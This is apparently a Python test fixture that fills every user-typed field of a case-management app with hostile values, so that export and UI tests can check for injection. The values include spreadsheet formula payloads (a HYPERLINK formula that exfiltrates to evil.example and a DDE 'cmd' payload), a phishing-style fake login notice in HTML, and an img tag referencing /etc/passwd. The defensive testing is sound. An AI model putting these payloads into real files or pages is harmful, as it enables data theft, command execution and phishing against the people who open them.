"""A month whose every user-typed field is hostile: markup and spreadsheet formulas.

Shared by the export tests (Excel, PDF) and the UI test that walks every widget. The
values go in the way users put them in: through the real workflow (``report``, ``act``)
for case texts, and as an admin would for names (departments, users, grids are
reference data the admin edits; here written straight into the store's tables).

Each value carries a tag (描述, 地址…) so a failing assertion says which field leaked.
The core strips surrounding whitespace, so tab/CR-led values are tested on the model.
"""

from __future__ import annotations

from datetime import datetime

from sqlalchemy import update

from gridapp.store.schema import departments, grids, users
from gridapp.workspace import Workspace
from tests.core.helpers import GARBAGE, URBAN, act, grid_in, officer_of, report

MONTH = "2026-10"
IMG = '<img src="file:///etc/passwd">'
MARKUP = f"<h1>【系统通知】账号异常，请立即重新登录</h1>{IMG}"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")'

# case texts (typed by officers and staff)
DESCRIPTION = MARKUP + "描述"
ADDRESS = "+" + MARKUP + "地址"
REPORTER = "@<b>举报人</b>" + IMG
ACCEPT_NOTE = "-" + MARKUP + "受理备注"
REJECT_REASON = FORMULA  # the incident: stored as a live formula in the workbook
VOID_REASON = "+1+1" + MARKUP + "作废理由"
SUSPEND_REASON = "-2+3" + MARKUP + "挂账理由"
EXTENSION_REASON = "@SUM(1,2)" + MARKUP + "延期理由"
HANDLE_NOTE = "=1+1" + MARKUP + "处置说明"
CHECK_NOTE = "#N/A" + MARKUP + "核查意见"
RETURN_REASON = "=cmd|' /C calc'!A0" + MARKUP + "回退理由"
SUPERVISE_NOTE = "@" + MARKUP + "督办意见"

# reference names (typed by the admin), at most 64 characters
DEPT_NAME = "=<h1>区环卫中心</h1>" + IMG
OFFICER_NAME = "+<b>网格员</b>" + IMG
SHOULI_NAME = "-<i>受理员</i>" + IMG
ZHIBAN_NAME = "@<u>值班长</u>" + IMG
PAIQIAN_NAME = "=<s>派遣员</s>" + IMG
DEPT_USER_NAME = "=<b>部门人员</b>" + IMG
DUCHA_NAME = "=<h2>督查员</h2>" + IMG
GRID_NAME = "=<h3>网格</h3>" + IMG

CASE_TEXTS = (
    DESCRIPTION,
    ADDRESS,
    REPORTER,
    ACCEPT_NOTE,
    REJECT_REASON,
    VOID_REASON,
    SUSPEND_REASON,
    EXTENSION_REASON,
    HANDLE_NOTE,
    CHECK_NOTE,
    RETURN_REASON,
    SUPERVISE_NOTE,
)
NAMES = (
    DEPT_NAME,
    OFFICER_NAME,
    SHOULI_NAME,
    ZHIBAN_NAME,
    PAIQIAN_NAME,
    DEPT_USER_NAME,
    DUCHA_NAME,
    GRID_NAME,
)


def at(clock, text: str) -> None:
    clock.now = datetime.fromisoformat(f"2026-{text}")


def rename(ws: Workspace, officer: str, grid_code: str) -> None:
    """What a hostile (or careless) admin could type as names."""
    names = {
        officer: OFFICER_NAME,
        "shouli": SHOULI_NAME,
        "zhiban": ZHIBAN_NAME,
        "paiqian": PAIQIAN_NAME,
        "bm-d02": DEPT_USER_NAME,
        "ducha": DUCHA_NAME,
    }
    with ws.db.write() as conn:
        conn.execute(update(departments).where(departments.c.code == "D02").values(name=DEPT_NAME))
        conn.execute(update(grids).where(grids.c.code == grid_code).values(name=GRID_NAME))
        for username, name in names.items():
            conn.execute(
                update(users).where(users.c.username == username).values(display_name=name)
            )
    ws.reload_reference()


def _filed(ws, clock, day: str, **fields) -> str:
    at(clock, f"{day}T09:00")
    cid = report(ws, URBAN, category=GARBAGE, **fields)
    at(clock, f"{day}T09:05")
    act(ws, "shouli", cid, "accept", {"note": ACCEPT_NOTE})
    at(clock, f"{day}T09:10")
    act(ws, "zhiban", cid, "file")
    return cid


def build_month(ws: Workspace, clock) -> dict[str, str]:
    """October 2026 in 丝绸路街道; returns case ids by what happened to them."""
    grid = grid_in(ws, URBAN)
    officer = officer_of(ws, grid.code)
    rename(ws, officer, grid.code)
    texts = {"description": DESCRIPTION, "address": ADDRESS, "reporter_name": REPORTER}
    ids: dict[str, str] = {"officer": officer}
    # worked: extension, return, handled, check failed (返工), supervised, handled again
    ids["worked"] = cid = _filed(ws, clock, "10-12", **texts)
    at(clock, "10-12T09:20")
    act(ws, "paiqian", cid, "dispatch", {"department_code": "D05"})
    at(clock, "10-12T09:40")
    act(ws, "bm-d05", cid, "return", {"reason": RETURN_REASON})
    at(clock, "10-12T09:50")
    act(ws, "paiqian", cid, "reassign", {"department_code": "D02", "reason": "改派"})
    at(clock, "10-12T10:00")
    ext = {"deadline": "2026-10-20T17:30:00", "reason": EXTENSION_REASON}
    act(ws, "bm-d02", cid, "request_extension", ext)
    act(ws, "paiqian", cid, "approve_extension")
    at(clock, "10-13T10:00")
    act(ws, "ducha", cid, "supervise", {"note": SUPERVISE_NOTE})
    at(clock, "10-14T10:00")
    act(ws, "bm-d02", cid, "handle", {"note": HANDLE_NOTE})
    at(clock, "10-14T10:30")
    act(ws, officer, cid, "check", {"result": False, "note": CHECK_NOTE})
    # suspended (挂账): excluded, with its reason
    ids["suspended"] = cid = _filed(ws, clock, "10-14", **texts)
    at(clock, "10-14T09:20")
    act(ws, "paiqian", cid, "dispatch", {"department_code": "D02"})
    at(clock, "10-14T10:00")
    act(ws, "bm-d02", cid, "request_suspension", {"reason": SUSPEND_REASON})
    act(ws, "paiqian", cid, "approve_suspension")
    # voided (作废) after filing
    ids["voided"] = cid = _filed(ws, clock, "10-15", **texts)
    at(clock, "10-15T09:30")
    act(ws, "zhiban", cid, "void", {"reason": VOID_REASON})
    # not filed (不予立案): the reject reason that became a formula
    at(clock, "10-16T10:00")
    ids["rejected"] = cid = report(ws, URBAN, category=GARBAGE, **texts)
    at(clock, "10-16T10:05")
    act(ws, "shouli", cid, "accept", {"note": ACCEPT_NOTE})
    act(ws, "shouli", cid, "reject", {"reason": REJECT_REASON})
    # an open case reported and accepted, still waiting (list, map, merge candidates)
    at(clock, "10-20T09:00")
    ids["open"] = report(ws, URBAN, category=GARBAGE, **texts)
    at(clock, "11-21T08:00")
    return ids
